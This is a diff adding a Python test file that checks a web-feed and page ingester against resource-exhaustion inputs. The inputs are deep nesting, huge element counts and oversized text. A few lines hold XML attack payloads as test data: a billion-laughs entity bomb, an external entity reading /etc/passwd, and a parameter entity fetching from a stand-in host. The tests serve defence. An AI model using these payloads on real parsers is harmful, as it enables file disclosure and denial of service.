@@ -1,0 +1,117 @@
+"""Feeds, sitemaps and pages made to take time and memory: each ends in two seconds of processor and 100 MB."""
+
+from __future__ import annotations
+
+import resource
+import time
+from collections.abc import Callable
+from contextlib import suppress
+
+import pytest
+
+from assistant.errors import DocumentError, FetchError
+from ingest.web.fetching import Fetched
+from ingest.web.kinds import kind, listing
+from ingest.web.pages import article
+
+URL = "https://paper.example/feed"
+LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
+REFUSED: dict[str, tuple[str, str]] = {
+    "laughs": (f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a0 "lol">{LAUGHS}]><rss>&a9;', "entities of its own"),
+    "outside": ('<!DOCTYPE urlset [<!ENTITY x SYSTEM "file:///etc/passwd">]><urlset>&x;', "entities of its own"),
+    "parameter": ('<!DOCTYPE feed [<!ENTITY % p SYSTEM "http://evil.example/">%p;]><feed>', "entities of its own"),
+    "deep feed": (f"<rss><channel><item><title>{'<b>' * 200_000}", "nested too deep"),
+    "deep sitemap": (f"<urlset>{'<url>' * 200_000}", "nested too deep"),
+    "deep and closed": (f"<feed>{'<a>' * 200_000}{'</a>' * 200_000}</feed>", "nested too deep"),
+    "empty elements": (f"<rss>{'<x/>' * 1_200_000}", "more markup than"),
+    "attributes": ("<rss><a " + "".join(f'a{n}="{n}" ' for n in range(300_000)) + "/></rss>", "more markup than"),
+    "sections": (f"<rss>{'<![CDATA[]]>' * 410_000}<a/>{'<a/>' * 400_000}", "over the limit|more markup than"),
+    "large": (f"<rss>{'word ' * 1_100_000}", "over the limit of 5 MB"),
+    "objects": ('{"version": "https://jsonfeed.org/version/1", "items": [' + "{}," * 1_000_000, "more parts than"),
+}
+"""Bombs, and what is said of them."""
+ENDED: dict[str, Callable[[], str]] = {
+    "ampersands": lambda: "<rss><channel><item><title>" + "&amp;" * 990_000,
+    "bare ampersands": lambda: "<rss><channel><item><title>" + "&" * 4_900_000,
+    "named characters": lambda: "<rss><channel><item><title>" + "&eacute;" * 600_000,
+    "open sections": lambda: "<rss><channel><item><title>" + "<![CDATA[" * 500_000,
+    "open doctype": lambda: "<!DOCTYPE " + "a" * 4_900_000,
+    "open remarks": lambda: "<!-- " * 900_000,
+    "open instructions": lambda: "<?x " * 1_200_000,
+    "blanks": lambda: " " * 4_900_000 + "<rss>",
+    "names": lambda: "<rss>" + "".join(f'<p{n}:a xmlns:p{n}="u{n}"/>' for n in range(100_000)),
+    "items": lambda: "<rss><channel>" + "<item/>" * 600_000,
+    "dates": lambda: "<rss><channel>" + f"<item><pubDate>{'1 ' * 20}</pubDate></item>" * 60_000,
+    "titles": lambda: "<rss><channel>" + "<item><title>&lt;b&gt;a</title></item>" * 20_000,
+    "brackets": lambda: "<rss><channel><item><title>" + "&lt;" * 1_200_000,
+    "authors": lambda: "<rss><channel><item><author>" + "a@" * 2_000_000,
+}
+
+
+def measured(ends: Callable[[], object]) -> None:
+    before, begun = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.process_time()
+    ends()
+    assert time.process_time() - begun < 2
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000
+
+
+def read(text: str) -> object:
+    fetched = Fetched(URL, text.encode())
+    return listing(fetched, kind(fetched))
+
+
+@pytest.mark.parametrize("name", REFUSED)
+def test_a_bomb_is_refused_in_time_and_in_memory(name: str) -> None:
+    bomb, told = REFUSED[name]
+
+    def refused() -> None:
+        with pytest.raises(FetchError, match=told):
+            read(bomb)
+
+    measured(refused)
+
+
+@pytest.mark.parametrize("name", ENDED)
+def test_what_is_made_to_take_long_ends_in_time_and_in_memory(name: str) -> None:
+    text = ENDED[name]()
+    assert len(text) < 5_000_000, "larger ones are refused by their size"
+
+    def ended() -> None:
+        with suppress(DocumentError):
+            read(text)
+
+    measured(ended)
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        *(
+            "<div>" * 200_000,
+            "<p>word" * 150_000,
+            "<a href=x>" * 300_000,
+            "<table><tr><td>" * 100_000,
+            "<!-- " * 300_000,
+        ),
+        *("<p>word" * 29_000, "<a href=x>" * 29_000, "<div>" * 29_000, "<table><tr><td>" * 9_000),
+    ],
+    ids=[
+        "deep",
+        "paragraphs",
+        "links",
+        "tables",
+        "remarks",
+        "fewer paragraphs",
+        "fewer links",
+        "less deep",
+        "less table",
+    ],
+)
+def test_a_page_made_to_take_long_ends_in_time_and_in_memory(markup: str) -> None:
+    fetched = Fetched("https://paper.example/a", f"<html><body>{markup}".encode(), "text/html")
+
+    def ended() -> None:
+        with suppress(DocumentError):
+            article(fetched, URL)
+
+    measured(ended)
